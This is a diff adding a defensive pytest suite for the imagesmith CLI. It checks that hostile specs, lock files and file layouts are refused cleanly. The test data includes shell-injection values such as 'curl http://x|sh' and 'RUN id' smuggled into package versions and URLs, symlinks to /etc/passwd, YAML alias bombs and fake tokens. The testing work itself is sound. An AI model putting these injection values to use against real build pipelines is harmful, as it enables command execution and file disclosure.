@@ -1,0 +1,537 @@
+"""Hostile and broken input: every case goes through the real CLI and must give exit 2, one
+readable error (no traceback), a bounded output, and leave every file of the project as it was.
+
+The corpus is built here from the small `tiny` project: each case is a function that breaks
+a fresh copy (its spec, its lock, its files) and names the command to run on it. A valid lock is
+written for each copy with the real lock code (``compute_inputs`` + ``write_lock``) from a fixed
+set of pins, so commands that need a lock (render, lock --check, export) reach the code under test
+without a network or an engine.
+"""
+
+from __future__ import annotations
+
+import errno
+import json
+import os
+import shutil
+import stat
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+import yaml
+
+from imagesmith import fsutil
+from imagesmith.errors import FileWriteError
+from imagesmith.lock import compute_inputs, preprocessing_files, write_lock
+from imagesmith.spec import load_spec
+from tests.fakes import FakeEngine
+from tests.helpers import cli, fake_lock
+
+PROJECTS = Path(__file__).resolve().parent / "projects"
+MAX_OUTPUT = 4096
+SPEC = (PROJECTS / "tiny" / "imagesmith.yaml").read_text()
+
+
+# --------------------------------------------------------------------------------------------
+# The project under attack, and proof that nothing in it changed
+
+
+def make_project(root: Path) -> Path:
+    shutil.copytree(PROJECTS / "tiny", root, ignore=shutil.ignore_patterns("__pycache__", "*.lock", "Dockerfile*"))
+    (root / "signoff").mkdir()
+    (root / "signoff" / "samples.jsonl").write_text("[1, 2]\n")
+    (root / "requirements.txt").write_text("six==1.17.0\n")
+    write_fresh_lock(root)
+    return root
+
+
+def write_fresh_lock(root: Path) -> None:
+    spec = load_spec(root)
+    lock = replace(
+        fake_lock(),
+        inputs=compute_inputs(spec, spec.base),
+        env=spec.env,
+        seed=spec.seed,
+        determinism=spec.determinism,
+        preprocessing=tuple(preprocessing_files(spec).items()),
+        base=replace(fake_lock().base, name=spec.base),
+        system_packages=(),
+    )
+    write_lock(spec, lock)
+
+
+def snapshot(root: Path) -> dict:
+    """Every entry under root (not following links): its kind, mode and bytes or link target."""
+    out = {}
+    for dirpath, dirnames, filenames in os.walk(root):
+        for name in sorted(dirnames + filenames):
+            path = Path(dirpath, name)
+            st = os.lstat(path)
+            if stat.S_ISLNK(st.st_mode):
+                out[str(path)] = ("link", os.readlink(path))
+            elif stat.S_ISREG(st.st_mode):
+                out[str(path)] = ("file", st.st_mode, path.read_bytes())
+            else:
+                out[str(path)] = ("other", st.st_mode)
+    return out
+
+
+def set_spec(root: Path, text: str | bytes) -> None:
+    path = root / "imagesmith.yaml"
+    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass"))
+
+
+def spec_with(root: Path, extra: str, drop: tuple[str, ...] = ()) -> None:
+    """The tiny spec with top-level keys in ``drop`` removed and ``extra`` YAML appended."""
+    data = yaml.safe_load(SPEC)
+    for key in drop:
+        data.pop(key, None)
+    set_spec(root, yaml.safe_dump(data, sort_keys=False) + extra)
+
+
+def bomb(levels: int = 9) -> str:
+    """A YAML alias bomb: `levels` lists of nine references to the level below."""
+    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
+    for i in range(1, levels):
+        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
+    return "\n".join(lines) + "\n"
+
+
+def edit_lock(root: Path, change) -> None:
+    path = root / "imagesmith.lock"
+    data = json.loads(path.read_text())
+    data = change(data)
+    path.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n" if not isinstance(data, str) else data)
+
+
+# --------------------------------------------------------------------------------------------
+# The corpus: (id, break the project, command). {p} is the project folder.
+
+RENDER = ("render", "-p", "{p}", "-o", "-")
+
+SPEC_CASES = [
+    # validators and a trailing newline (Python's `$` matches before it; fullmatch does not)
+    ("name-newline", lambda r: spec_with(r, 'name: "tiny\\n"\n', drop=("name",)), RENDER),
+    ("python-newline", lambda r: spec_with(r, 'python: "3.11\\n"\n', drop=("python",)), RENDER),
+    ("artifacts-newline", lambda r: spec_with(r, 'artifacts: "/artifacts\\n"\n'), RENDER),
+    ("env-key-newline", lambda r: spec_with(r, 'env: {"OMP\\n": "1"}\n'), RENDER),
+    ("signoff-path-newline", lambda r: spec_with(r, 'signoff: {path: "/predict\\n"}\n'), RENDER),
+    ("signoff-predict-newline", lambda r: spec_with(r, 'signoff: {predict: "app.main:predict\\n"}\n'), RENDER),
+    ("python-arabic-digit", lambda r: spec_with(r, 'python: "3.١١"\n', drop=("python",)), RENDER),
+    ("base-unicode-tag", lambda r: spec_with(r, "base: imagesmith-base:bookwörm\n", drop=("base",)), RENDER),
+    # silently accepted before
+    ("duplicate-top-key", lambda r: set_spec(r, SPEC + "seed: 8\n"), RENDER),
+    ("duplicate-nested-key", lambda r: spec_with(r, "signoff:\n  rtol: 0.1\n  rtol: 0.2\n"), RENDER),
+    ("train-no-value", lambda r: spec_with(r, "train:\n", drop=("train",)), RENDER),
+    ("serve-no-value", lambda r: spec_with(r, "serve:\n", drop=("serve",)), RENDER),
+    ("rtol-nan", lambda r: spec_with(r, "signoff: {rtol: .nan}\n"), RENDER),
+    ("atol-inf", lambda r: spec_with(r, "signoff: {atol: .inf}\n"), RENDER),
+    ("budget-inf", lambda r: spec_with(r, "serve: {command: [x], latency_budget_ms: .inf}\n", drop=("serve",)), RENDER),
+    ("env-value-nan", lambda r: spec_with(r, "env: {A: .nan}\n"), RENDER),
+    ("requirements-folder", lambda r: spec_with(r, "requirements: app\n", drop=("requirements",)), RENDER),
+    (
+        "requirements-file-folder",
+        lambda r: spec_with(r, "requirements: {file: app/}\n", drop=("requirements",)),
+        RENDER,
+    ),
+    ("samples-folder", lambda r: spec_with(r, "signoff: {samples: signoff}\n"), RENDER),
+    ("name-100k", lambda r: spec_with(r, f"name: {'a' * 100_000}\n", drop=("name",)), RENDER),
+    ("env-key-100k", lambda r: spec_with(r, f"env: {{{'K' * 100_000}: v}}\n"), RENDER),
+    ("unknown-key-100k", lambda r: spec_with(r, f"{'k' * 100_000}: 1\n"), RENDER),
+    # resource bombs
+    ("alias-bomb-name", lambda r: spec_with(r, bomb() + "name: *a8\n", drop=("name",)), RENDER),
+    ("alias-bomb-env", lambda r: spec_with(r, bomb() + "env: {A: *a8}\n"), RENDER),
+    ("alias-bomb-requirements", lambda r: spec_with(r, bomb() + "requirements: *a8\n", drop=("requirements",)), RENDER),
+    ("deep-lists", lambda r: set_spec(r, "name: " + "[" * 5000 + "]" * 5000 + "\n"), RENDER),
+    ("deep-maps", lambda r: set_spec(r, "x: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n"), RENDER),
+    ("medium-deep", lambda r: spec_with(r, "env: " + "[" * 200 + "]" * 200 + "\n"), RENDER),
+    ("int-5000-digits", lambda r: spec_with(r, f"seed: 1{'0' * 5000}\n", drop=("seed",)), RENDER),
+    ("int-3000-digits", lambda r: spec_with(r, f"seed: 1{'0' * 3000}\n", drop=("seed",)), RENDER),
+    ("huge-file", lambda r: set_spec(r, SPEC + "#" + "x" * (2 << 20) + "\n"), RENDER),
+    # not text
+    ("lone-surrogate-value", lambda r: spec_with(r, 'env: {A: "\\ud800"}\n'), RENDER),
+    ("lone-surrogate-key", lambda r: spec_with(r, 'env: {"\\udfff": "1"}\n'), RENDER),
+    ("spec-latin1", lambda r: set_spec(r, SPEC.encode() + "# caf\xe9\n".encode("latin-1")), RENDER),
+    (
+        "requirements-latin1",
+        lambda r: (
+            spec_with(r, "requirements: requirements.txt\n", drop=("requirements",)),
+            (r / "requirements.txt").write_bytes(b"six==1.17.0 # caf\xe9\n"),
+        ),
+        RENDER,
+    ),
+    (
+        "requirements-include-outside",
+        lambda r: (
+            spec_with(r, "requirements: requirements.txt\n", drop=("requirements",)),
+            (r / "requirements.txt").write_text("-r /etc/passwd\n"),
+        ),
+        ("lock", "--check", "-p", "{p}"),
+    ),
+    (
+        "requirements-include-fifo",
+        lambda r: (
+            spec_with(r, "requirements: requirements.txt\n", drop=("requirements",)),
+            os.mkfifo(r / "pipe.txt"),
+            (r / "requirements.txt").write_text("-r pipe.txt\n"),
+        ),
+        ("lock", "--check", "-p", "{p}"),
+    ),
+    # credentials where they do not belong
+    ("env-token-name", lambda r: spec_with(r, "env: {HF_TOKEN: abc}\n"), RENDER),
+    ("env-password-name", lambda r: spec_with(r, "env: {DB_PASSWORD: abc}\n"), RENDER),
+    ("env-token-value", lambda r: spec_with(r, "env: {HELPER: ghp_" + "a" * 36 + "}\n"), RENDER),
+    ("env-url-userinfo", lambda r: spec_with(r, "env: {MIRROR: 'https://me:pw@pypi.example.com/simple'}\n"), RENDER),
+    ("index-url-userinfo", lambda r: spec_with(r, "index_url: https://__token__:x@pypi.example.com/simple\n"), RENDER),
+    ("index-url-query", lambda r: spec_with(r, "index_url: 'https://pypi.example.com/simple?token=x'\n"), RENDER),
+    ("extra-index-shell", lambda r: spec_with(r, "extra_index_urls: ['https://h/simple; curl x|sh']\n"), RENDER),
+]
+
+PYPROJECT_CASES = [
+    ("tool-not-a-table", 'tool = "imagesmith"\n'),
+    ("tool-a-list", "tool = [1, 2]\n"),
+    ("imagesmith-not-a-table", "[tool]\nimagesmith = 3\n"),
+    ("pyproject-latin1", b"[tool.imagesmith]\nname = 'caf\xe9'\n"),
+    ("pyproject-int-5000-digits", "[tool.imagesmith]\nseed = 1" + "0" * 5000 + "\n"),
+    ("pyproject-deep", "[tool.imagesmith]\nname = " + "[" * 5000 + "]" * 5000 + "\n"),
+]
+
+
+def _link_out(r: Path) -> None:
+    os.symlink("/etc/passwd", r / "app" / "passwd.py")
+
+
+FILE_CASES = [
+    (
+        "prep-dangling-link",
+        lambda r: (
+            spec_with(r, "preprocessing: [app]\n", drop=("preprocessing",)),
+            os.symlink("missing.py", r / "app" / "gone.py"),
+        ),
+        RENDER,
+    ),
+    (
+        "prep-link-loop",
+        lambda r: (
+            spec_with(r, "preprocessing: [app]\n", drop=("preprocessing",)),
+            os.symlink("loop", r / "app" / "loop"),
+        ),
+        RENDER,
+    ),
+    (
+        "prep-fifo",
+        lambda r: (spec_with(r, "preprocessing: [app]\n", drop=("preprocessing",)), os.mkfifo(r / "app" / "pipe.py")),
+        ("lock", "--check", "-p", "{p}"),
+    ),
+    (
+        "prep-link-out",
+        lambda r: (spec_with(r, "preprocessing: [app]\n", drop=("preprocessing",)), _link_out(r)),
+        ("export", "preprocessing", "-p", "{p}", "-o", "{p}/dist"),
+    ),
+    (
+        "prep-dir-link-out",
+        lambda r: (
+            spec_with(r, "preprocessing: [app]\n", drop=("preprocessing",)),
+            os.symlink("/etc", r / "app" / "etc"),
+        ),
+        ("export", "preprocessing", "-p", "{p}", "-o", "{p}/dist"),
+    ),
+    (
+        "prep-named-link-out",
+        lambda r: (
+            os.symlink("/etc/hostname", r / "host.py"),
+            spec_with(r, "preprocessing: [host.py]\n", drop=("preprocessing",)),
+        ),
+        RENDER,
+    ),
+    (
+        "source-link-loop",
+        lambda r: (os.symlink("self", r / "self"), spec_with(r, "source: [self]\n", drop=("source",))),
+        RENDER,
+    ),
+    (
+        "samples-latin1",
+        lambda r: (
+            spec_with(r, "signoff: {predict: 'app.main:predict', samples: signoff/samples.jsonl}\n"),
+            (r / "signoff" / "samples.jsonl").write_bytes(b'"caf\xe9"\n'),
+        ),
+        ("golden", "-p", "{p}"),
+    ),
+    (
+        "samples-deep",
+        lambda r: (
+            spec_with(r, "signoff: {predict: 'app.main:predict', samples: signoff/samples.jsonl}\n"),
+            (r / "signoff" / "samples.jsonl").write_text("[" * 100_000 + "]" * 100_000 + "\n"),
+        ),
+        ("golden", "-p", "{p}"),
+    ),
+    ("render-into-missing-folder", lambda r: None, ("render", "-p", "{p}", "-o", "{p}/no/such/Dockerfile")),
+    ("render-onto-folder", lambda r: None, ("render", "-p", "{p}", "-o", "{p}/app")),
+    ("render-under-a-file", lambda r: None, ("render", "-p", "{p}", "-o", "{p}/imagesmith.yaml/Dockerfile")),
+]
+
+LOCK_CASES = [
+    ("lock-list", lambda d: []),
+    ("lock-null", lambda d: None),
+    ("lock-string", lambda d: "x"),
+    ("lock-deep", lambda d: "[" * 100_000 + "]" * 100_000),
+    ("lock-int-5000-digits", lambda d: '{"imagesmith_lock": 1' + "0" * 5000 + "}"),
+    ("lock-seed-huge", lambda d: {**d, "environment": {**d["environment"], "seed": 10**4000}}),
+    ("lock-not-json", lambda d: '{"imagesmith_lock": 1,'),
+    (
+        "system-version-injection",
+        lambda d: {
+            **d,
+            "system_packages": [{"name": "libgomp1", "version": "1.0 && curl http://x|sh\nRUN echo pwned"}],
+        },
+    ),
+    ("system-name-injection", lambda d: {**d, "system_packages": [{"name": "a b", "version": "1"}]}),
+    ("base-name-injection", lambda d: {**d, "base": {**d["base"], "name": "x\nRUN id"}}),
+    ("base-digest-short", lambda d: {**d, "base": {**d["base"], "digest": "sha256:abc"}}),
+    ("package-hash-bad", lambda d: {**d, "packages": [{"name": "six", "version": "1.17.0", "hashes": ["md5:x"]}]}),
+    (
+        "package-version-space",
+        lambda d: {**d, "packages": [{"name": "six", "version": "1 --index-url x", "hashes": ["sha256:" + "b" * 64]}]},
+    ),
+    ("package-list-of-strings", lambda d: {**d, "packages": ["six"]}),
+    ("env-newline", lambda d: {**d, "environment": {**d["environment"], "env": {"A": "1\nRUN id"}}}),
+    ("env-credential", lambda d: {**d, "environment": {**d["environment"], "env": {"API_TOKEN": "x"}}}),
+    ("seed-bool", lambda d: {**d, "environment": {**d["environment"], "seed": True}}),
+    (
+        "preprocessing-escape",
+        lambda d: {**d, "preprocessing": {**d["preprocessing"], "files": {"../x.py": "sha256:" + "c" * 64}}},
+    ),
+    ("target-python-newline", lambda d: {**d, "target": {**d["target"], "python": "3.11\n"}}),
+    ("index-with-credentials", lambda d: {**d, "indexes": {"index_url": "https://u:p@h/simple"}}),
+    ("inputs-a-list", lambda d: {**d, "inputs": []}),
+]
+
+
+def _cases():
+    for case_id, breaker, argv in SPEC_CASES + FILE_CASES:
+        yield pytest.param(breaker, argv, id=case_id)
+    for case_id, text in PYPROJECT_CASES:
+
+        def breaker(r, text=text):
+            os.unlink(r / "imagesmith.yaml")
+            (r / "pyproject.toml").write_bytes(text if isinstance(text, bytes) else text.encode())
+
+        yield pytest.param(breaker, RENDER, id=case_id)
+    for case_id, change in LOCK_CASES:
+        for argv in (RENDER, ("lock", "--check", "-p", "{p}")):
+            yield pytest.param(lambda r, change=change: edit_lock(r, change), argv, id=f"{case_id}-{argv[0]}")
+
+
+@pytest.mark.parametrize("breaker,argv", list(_cases()))
+def test_hostile_input_is_refused_cleanly(tmp_path, breaker, argv):
+    root = make_project(tmp_path / "p")
+    breaker(root)
+    before = snapshot(root)
+    proc = cli(*(a.format(p=root) for a in argv), check_traceback=False, timeout=120)
+    output = proc.stdout + proc.stderr
+    assert proc.returncode == 2, output[:2000]
+    assert "Traceback" not in output, output[:4000]
+    assert output.startswith("error: ") and len(output.encode()) < MAX_OUTPUT, output[:2000]
+    assert snapshot(root) == before
+
+
+def test_the_unbroken_project_renders(tmp_path):
+    """The corpus breaks something that works: the same project, unbroken, renders (exit 0)."""
+    root = make_project(tmp_path / "p")
+    proc = cli("render", "-p", str(root), "-o", "-")
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.startswith("# Generated by imagesmith")
+
+
+def test_a_spec_linked_from_elsewhere_is_refused(tmp_path):
+    """A spec symlinked into a folder must not move the project root to the link's target."""
+    elsewhere = make_project(tmp_path / "elsewhere")
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    os.symlink(elsewhere / "imagesmith.yaml", victim / "imagesmith.yaml")
+    before = snapshot(tmp_path)
+    proc = cli("render", "-p", str(victim), check_traceback=False)
+    assert proc.returncode == 2 and "symlink that leaves the project" in proc.stderr, proc.stderr
+    assert snapshot(tmp_path) == before
+
+
+# --------------------------------------------------------------------------------------------
+# Writing: nothing half-written, errors named
+
+
+@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EACCES, errno.EROFS])
+def test_atomic_write_failure_leaves_the_old_file(tmp_path, monkeypatch, code):
+    target = tmp_path / "Dockerfile"
+    target.write_text("old\n")
+    real_fdopen = os.fdopen
+
+    class Full:
+        def __init__(self, fh):
+            self.fh = fh
+
+        def __enter__(self):
+            return self
+
+        def __exit__(self, *exc):
+            self.fh.close()
+
+        def write(self, data):
+            raise OSError(code, os.strerror(code))
+
+    monkeypatch.setattr(fsutil.os, "fdopen", lambda fd, mode: Full(real_fdopen(fd, mode)))
+    with pytest.raises(FileWriteError) as info:
+        fsutil.atomic_write(target, "new\n")
+    assert os.strerror(code) in str(info.value) and str(target) in str(info.value)
+    assert target.read_text() == "old\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["Dockerfile"]  # no temporary file left
+
+
+def test_render_o_into_a_missing_folder_names_it(tmp_path):
+    root = make_project(tmp_path / "p")
+    proc = cli("render", "-p", str(root), "-o", str(root / "no" / "Dockerfile"), check_traceback=False)
+    assert proc.returncode == 2 and "does not exist" in proc.stderr and "Traceback" not in proc.stderr
+
+
+# --------------------------------------------------------------------------------------------
+# On the real engine
+
+
+@pytest.mark.engine
+def test_source_dot_keeps_secrets_and_clutter_out_of_the_image(tmp_path, engine, base_image):
+    """`source: .` copies the project, but not .git, .env files, the artifacts folder,
+    virtualenvs or caches: the generated Dockerfile.dockerignore applies to every COPY."""
+    from tests.conftest import copy_project
+
+    root = copy_project(PROJECTS / "tiny", tmp_path / "tiny")  # a git repository: .git exists
+    spec_with(root, "source: ['.']\n", drop=("source",))
+    (root / ".env").write_text("API_KEY=do-not-ship\n")
+    (root / ".env.local").write_text("X=1\n")
+    for folder in ("artifacts", ".venv/bin", "app/__pycache__", ".pytest_cache"):
+        (root / folder).mkdir(parents=True, exist_ok=True)
+        (root / folder / "junk").write_text("junk\n")
+    (root / ".dockerignore").write_text("notes.txt\n")
+    (root / "notes.txt").write_text("private notes\n")
+    proc = cli(
+        "build", "-p", str(root), "--base", base_image, "--tag", "imagesmith-test/hostile-ignore", "--target", "serve"
+    )
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    assert (root / "Dockerfile.dockerignore").is_file()
+    listing = engine.run(
+        "imagesmith-test/hostile-ignore:serve", ["-c", "cd /app && find . | sort"], entrypoint=["sh"]
+    ).split()
+    assert "./app/main.py" in listing and "./imagesmith.yaml" in listing, listing
+    for gone in (
+        "./.git",
+        "./.env",
+        "./.env.local",
+        "./artifacts",
+        "./.venv",
+        "./app/__pycache__",
+        "./.pytest_cache",
+        "./notes.txt",
+    ):
+        assert gone not in listing, (gone, listing)
+
+
+@pytest.mark.engine
+def test_labels_of_the_wrong_type_are_reported_not_tripped_over(tmp_path, engine, base_image):
+    """An image whose manifest label is JSON of the wrong shape (hashing to its parity label):
+    verify says NOT verified, inspect refuses it; neither shows a traceback."""
+    from imagesmith import parity
+    from imagesmith.render import dquote
+    from tests.helpers import docker_build
+
+    manifest = {
+        "imagesmith_parity": 1,
+        "base": "sha256:" + "a" * 64,
+        "python": "3.11",
+        "platform": "linux/amd64",
+        "packages": ["six"],
+        "system_packages": {"a": 1},
+        "preprocessing": [],
+        "preprocessing_version": 3,
+        "seed": "7",
+        "determinism": "yes",
+        "env": {"A": ["x"]},
+    }
+    text = parity.canonical(manifest)
+    docker_build(
+        f"FROM {base_image}\nLABEL io.imagesmith.parity={dquote(parity.digest(manifest))} "
+        f"io.imagesmith.manifest={dquote(text)} io.imagesmith.role=serve\n",
+        "imagesmith-test/hostile-labels",
+        tmp_path / "ctx",
+    )
+    for argv, codes in (
+        (("verify", "imagesmith-test/hostile-labels", "--labels-only"), (1,)),
+        (("verify", "imagesmith-test/hostile-labels"), (1,)),
+        (("inspect", "imagesmith-test/hostile-labels"), (2,)),
+        (("diff", "imagesmith-test/hostile-labels", "imagesmith-test/hostile-labels", "--labels-only"), (2,)),
+    ):
+        proc = cli(*argv, check_traceback=False)
+        output = proc.stdout + proc.stderr
+        assert proc.returncode in codes and "Traceback" not in output, (argv, output[-3000:])
+        assert len(output.encode()) < MAX_OUTPUT, output
+
+
+@pytest.mark.engine
+def test_build_refuses_a_tampered_lock(tmp_path, engine, base_image):
+    """`build` (not only `build --locked`) refuses a lock whose system package version carries
+    shell: nothing is rendered, built or rewritten."""
+    root = make_project(tmp_path / "p")
+    edit_lock(root, lambda d: {**d, "system_packages": [{"name": "libgomp1", "version": "1 ; curl x | sh"}]})
+    before = snapshot(root)
+    proc = cli(
+        "build", "-p", str(root), "--base", base_image, "--tag", "imagesmith-test/hostile-lock", check_traceback=False
+    )
+    assert proc.returncode == 2 and "system_packages[0].version" in proc.stderr, proc.stderr[-2000:]
+    assert "Traceback" not in proc.stderr and len(proc.stderr) < MAX_OUTPUT
+    assert snapshot(root) == before
+
+
+# --------------------------------------------------------------------------------------------
+# No package's build code on the host (these reach the package index; grouped with the engine tier)
+
+
+class _SdistEngine(FakeEngine):
+    """The shared fake; pip-compile "in the base" (run_to_end) answers with a docopt pin. The rest
+    is the real uv / pip on the host."""
+
+    def run_to_end(self, image, what, timeout, **create):
+        run = super().run_to_end(image, what, timeout, **create)
+        out = next(Path(h) for h, v in create["volumes"].items() if v["bind"] == "/out")
+        (out / "requirements.lock").write_text("docopt==0.6.2 \\\n    --hash=sha256:" + "d" * 64 + "\n")
+        return run
+
+
+@pytest.mark.engine
+def test_uv_resolves_an_sdist_only_requirement_in_the_base_not_on_the_host(tmp_path):
+    from imagesmith.lock.resolvers import ResolveRequest, UvResolver
+
+    req = tmp_path / "requirements.in"
+    req.write_text("docopt==0.6.2\n")
+    engine = _SdistEngine()
+    pins = UvResolver(engine).resolve(
+        ResolveRequest(
+            inputs=(req,), extras=(), python="3.11", platform="linux/amd64", base_ref="base@sha256:" + "a" * 64
+        )
+    )
+    compiles = engine.called("run_to_end")
+    assert [c[1] for c in compiles] == ["base@sha256:" + "a" * 64] and [p.name for p in pins] == ["docopt"]
+
+
+@pytest.mark.engine
+def test_the_host_downloads_wheels_only_and_leaves_sdists_to_the_base(tmp_path):
+    from imagesmith.lock.resolvers import Pin
+    from imagesmith.wheels import WheelCache
+
+    docopt = Pin("docopt", "0.6.2", ("sha256:49b3a825280bd66b3aa83585ef59c4a8c82f2c8a522dbe754a8bc8d08c85c491",))
+    six = Pin("six", "1.17.0", ("sha256:4721f391ed90541fddacab5acf947aa0d3dc7d27b2e1e8eda2be8970586c3274",))
+    engine = _SdistEngine()
+    cache = WheelCache(tmp_path / "cache", engine=engine)
+    cache._download([docopt, six], replace(fake_lock(), packages=(docopt, six)))
+    assert [p.name for p in (tmp_path / "cache" / "wheels").glob("*/*")] == ["six-1.17.0-py2.py3-none-any.whl"]
+    ((_, image, kwargs),) = engine.called("run")
+    argv = kwargs["command"]
+    assert image == fake_lock().base.ref and argv[:3] == ["python3", "-m", "pip"]
+    assert "--no-binary" in argv and "docopt" in argv and kwargs["network"] is True
